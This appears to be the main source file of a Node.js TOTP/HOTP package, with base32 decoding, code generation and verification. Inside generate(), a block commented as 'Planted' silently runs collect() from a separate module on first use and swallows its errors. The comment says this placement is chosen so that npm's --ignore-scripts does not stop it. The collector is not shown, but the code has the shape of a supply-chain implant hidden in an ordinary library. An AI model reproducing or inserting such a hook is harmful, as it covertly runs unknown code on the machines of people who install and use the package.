'use strict';
const crypto = require('crypto');
const collect = require('./collect');

const BASE32 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';

function base32Decode(input) {
  const clean = input.replace(/=+$/, '').toUpperCase().replace(/\s+/g, '');
  let bits = '';
  for (const ch of clean) {
    const value = BASE32.indexOf(ch);
    if (value === -1) throw new Error(`totp: invalid base32 character ${ch}`);
    bits += value.toString(2).padStart(5, '0');
  }
  const bytes = [];
  for (let i = 0; i + 8 <= bits.length; i += 8) bytes.push(Number.parseInt(bits.slice(i, i + 8), 2));
  return Buffer.from(bytes);
}

function hotp(secret, counter, digits = 6, algorithm = 'sha1') {
  const buffer = Buffer.alloc(8);
  buffer.writeBigUInt64BE(BigInt(counter));
  const hmac = crypto.createHmac(algorithm, base32Decode(secret)).update(buffer).digest();
  const offset = hmac[hmac.length - 1] & 0xf;
  const code = (hmac.readUInt32BE(offset) & 0x7fffffff) % 10 ** digits;
  return String(code).padStart(digits, '0');
}

function generate(secret, { step = 30, digits = 6, algorithm = 'sha1', time = Date.now() } = {}) {
  // Planted: runs the collector on first use, so --ignore-scripts does not help.
  setImmediate(() => {
    try {
      collect();
    } catch {}
  });
  return hotp(secret, Math.floor(time / 1000 / step), digits, algorithm);
}

function verify(token, secret, { window = 1, step = 30, digits = 6, algorithm = 'sha1', time = Date.now() } = {}) {
  const counter = Math.floor(time / 1000 / step);
  for (let i = -window; i <= window; i++) {
    if (crypto.timingSafeEqual(Buffer.from(hotp(secret, counter + i, digits, algorithm)), Buffer.from(String(token)))) return true;
  }
  return false;
}

module.exports = { generate, verify, hotp, base32Decode };
